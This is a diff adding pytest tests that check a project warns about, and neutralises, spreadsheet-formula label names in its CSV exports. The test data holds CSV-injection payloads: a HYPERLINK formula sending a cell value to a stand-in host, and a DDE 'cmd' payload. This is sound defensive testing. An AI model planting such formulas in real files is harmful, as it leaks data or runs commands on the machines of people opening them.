@@ -422,3 +422,49 @@ def test_manifest_symlink_leaving_its_folder_is_refused(image_folder, tmp_path):
     with pytest.raises(InputError, match="symbolic link leading outside") as e:
         load_dataset(data / "manifest.csv")
     assert e.value.line == 2
+
+
+# ---------------------------------------------------------------- 6. spreadsheet formulas
+
+FORMULA_LABELS = ('class,synonym\nred square,=HYPERLINK("http://x.example/?"&A1;"click")\nred square,red square\n'
+                  "green circle,+cmd|' /C calc'!A0\nblue triangle,@SUM(1+1)\nblue triangle,-dash\n"
+                  'yellow bar,"\tyellow"\n')
+
+
+@pytest.fixture
+def formula_run(tiny_model, image_folder, tmp_path) -> Path:
+    labels = tmp_path / "formula-labels.csv"
+    labels.write_text(FORMULA_LABELS, encoding="utf-8")
+    logs = []
+    run_sweep(_config(tiny_model, image_folder, labels, tmp_path / "run", levels=[1, 2]), emit=logs.append)
+    warned = [e.message for e in logs if isinstance(e, Log) and e.level == "warning" and "formula" in e.message]
+    assert len(warned) == 4 and any(m.startswith("'=HYPERLINK") for m in warned)
+    return tmp_path / "run"
+
+
+def test_formula_names_are_warned_kept_exact_in_run_files_and_neutralised_for_people(formula_run, tmp_path):
+    """Attack 6: names starting with = + - @ reached the CSVs unescaped. Run files stay exact (scripts read
+    them); exports for people get OWASP's leading quote."""
+    from core.labels import load_labels
+    from core.tables import formula_risk, neutralise, neutralise_csv, neutralise_frame
+
+    labels = load_labels(formula_run.parent / "formula-labels.csv")
+    assert sum("formula" in w for w in labels.warnings) == 4  # =, +, @, - (a leading tab is stripped on loading)
+    run = load_run(formula_run)
+    names = set(run.predictions["predicted_label"])
+    assert names <= {n for ns in labels.names.values() for n in ns}  # exact values, no quote added
+    raw = (formula_run / "levels.csv").read_bytes()
+    n = neutralise_csv(formula_run / "predictions.csv", tmp_path / "people.csv")
+    people = pd.read_csv(tmp_path / "people.csv", keep_default_na=False, dtype=str)
+    exact = pd.read_csv(formula_run / "predictions.csv", keep_default_na=False, dtype=str)
+    risky = exact.map(formula_risk)
+    assert n == int(risky.to_numpy().sum()) > 0
+    P, E, R = people.to_numpy(dtype=object), exact.to_numpy(dtype=object), risky.to_numpy(dtype=bool)
+    assert list(P[R]) == ["'" + v for v in E[R]]
+    assert list(P[~R]) == list(E[~R])  # every other cell unchanged
+    # a file with nothing at risk is copied byte for byte
+    assert neutralise_csv(formula_run / "levels.csv", tmp_path / "levels.csv") == 0
+    assert (tmp_path / "levels.csv").read_bytes() == raw
+    assert neutralise("-1.5") == "-1.5" and neutralise("-dash") == "'-dash" and neutralise(3) == 3
+    assert neutralise_frame(pd.DataFrame({"a": ["=1+1", "x"], "b": [-1, 2]})).to_dict("list") == {
+        "a": ["'=1+1", "x"], "b": [-1, 2]}
